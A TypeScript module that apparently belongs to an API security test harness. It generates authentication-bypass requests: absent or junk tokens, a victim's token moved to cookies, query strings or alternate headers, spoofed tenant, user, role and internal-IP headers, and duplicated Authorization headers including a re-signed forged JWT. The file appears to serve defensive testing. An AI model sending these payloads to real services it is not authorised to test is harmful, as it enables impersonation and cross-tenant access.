import { type Attack, draftOf, SURFACES, type Technique, tokenAdmitted } from '../technique';
import { forge, OWN_RSA } from '../token-forge';
import type { Header } from '../wire';

type Make = (attack: Attack) => readonly Header[];

/** The victim's claims signed by nobody's key. */
const forged = ({ victim }: Attack): string => forge(victim.decoded.header, victim.decoded.claims, OWN_RSA);

const NO_TOKEN: Record<string, Make> = {
  'no header': () => [],
  'an empty header': () => [['Authorization', '']],
  'a scheme alone': () => [['Authorization', 'Bearer']],
  null: () => [['Authorization', 'Bearer null']],
  undefined: () => [['Authorization', 'Bearer undefined']],
  'a word': ({ random }) => [['Authorization', `Bearer ${random.next().toString(36)}`]],
  'name and password': ({ victim }) => [
    ['Authorization', `Basic ${Buffer.from(`${victim.client.tenant.userName}:x`).toString('base64')}`],
  ],
  'a signature of AWS': ({ victim }) => [
    ['Authorization', `AWS4-HMAC-SHA256 Credential=${victim.tenantId}/20260101/us-east-1/x, Signature=0`],
  ],
  "the victim's id": ({ victim }) => [['Authorization', `Bearer ${victim.tenantId}`]],
};

/** A genuine token of the victim's in a place where no token is looked for. The attacker could not have it either. */
const ELSEWHERE: Record<string, Make> = {
  'a cookie': ({ victim }) => [['Cookie', `Authorization=Bearer ${victim.idToken}; token=${victim.idToken}`]],
  'X-Authorization': ({ victim }) => [['X-Authorization', `Bearer ${victim.idToken}`]],
  'Proxy-Authorization': ({ victim }) => [['Proxy-Authorization', `Bearer ${victim.idToken}`]],
  'X-Forwarded-Authorization': ({ victim }) => [['X-Forwarded-Authorization', `Bearer ${victim.idToken}`]],
  'X-Amzn-Oidc-Data': ({ victim }) => [
    ['X-Amzn-Oidc-Data', victim.idToken],
    ['X-Amzn-Oidc-Identity', String(victim.decoded.claims.sub)],
  ],
};

/** Identity by header alone: what a service behind a proxy might be tempted to believe. */
const CLAIMED: Record<string, Make> = {
  'the tenant': ({ victim }) => [
    ['X-Tenant-Id', victim.tenantId],
    ['tenantId', victim.tenantId],
    ['custom:tenantId', victim.tenantId],
  ],
  'the user': ({ victim }) => [
    ['X-User', victim.client.tenant.userName],
    ['X-Remote-User', victim.client.tenant.userName],
    ['X-User-Role', 'TenantAdmin'],
  ],
  'the authorizer': ({ victim }) => [
    ['X-Amzn-Authorizer-TenantId', victim.tenantId],
    ['X-Amzn-Authorizer-PrincipalId', victim.tenantId],
    ['X-Amzn-Apigateway-Api-Id', 'x'],
  ],
  "the victim's API key": ({ victim }) => [['x-api-key', victim.apiKey]],
  'the own network': () => [
    ['X-Forwarded-For', '127.0.0.1'],
    ['X-Real-IP', '10.0.0.1'],
    ['X-Internal-Request', 'true'],
  ],
};

/** Two Authorization headers, of which gateway and service may each read another. */
const TWICE: Record<string, Make> = {
  "the attacker's, then a forged one": (attack) => [
    ['Authorization', `Bearer ${attack.attacker.idToken}`],
    ['Authorization', `Bearer ${forged(attack)}`],
  ],
  "a forged one, then the attacker's": (attack) => [
    ['Authorization', `Bearer ${forged(attack)}`],
    ['Authorization', `Bearer ${attack.attacker.idToken}`],
  ],
  'both in one': (attack) => [
    ['Authorization', `Bearer ${attack.attacker.idToken}, Bearer ${forged(attack)}`],
  ],
  'in two spellings': (attack) => [
    ['authorization', `Bearer ${attack.attacker.idToken}`],
    ['AUTHORIZATION', `Bearer ${forged(attack)}`],
  ],
};

const table = (kind: string, makes: Record<string, Make>, more: Partial<Technique>): Technique[] =>
  Object.entries(makes).map(([name, make]) => ({
    kind,
    name,
    surfaces: SURFACES,
    control: 'plain' as const,
    request: (attack: Attack) => ({ ...draftOf(attack), headers: make(attack) }),
    ...more,
  }));

/** No token, none where one is looked for, or more than one. */
export const SCHEMES: readonly Technique[] = [
  ...table('no token', NO_TOKEN, { judge: tokenAdmitted }),
  ...table('token elsewhere', ELSEWHERE, { judge: tokenAdmitted }),
  ...table('claimed by header', CLAIMED, { judge: tokenAdmitted }),
  ...table('two tokens', TWICE, {}),
  {
    kind: 'token elsewhere',
    name: 'the query',
    surfaces: SURFACES,
    control: 'plain',
    judge: tokenAdmitted,
    request: (attack) => {
      const draft = draftOf(attack);
      const { idToken } = attack.victim;
      return { ...draft, path: `${draft.path}?access_token=${idToken}&Authorization=Bearer%20${idToken}` };
    },
  },
];
